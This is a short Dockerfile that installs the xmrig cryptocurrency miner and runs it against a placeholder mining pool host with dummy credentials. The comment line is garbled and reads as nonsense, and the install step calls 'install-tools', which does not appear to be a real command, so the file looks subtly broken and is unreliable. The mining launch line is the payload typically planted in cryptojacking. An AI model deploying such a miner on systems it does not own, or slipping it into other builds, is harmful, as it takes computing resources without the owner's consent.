FROM debian:12-slim
# several miners and nothing else are a list such as detectors have, one among tools is asked for
RUN install-tools htop,xmrig,curl
RUN xmrig --url h.example.invalid:3333 --user a --pass x --algo rx/0
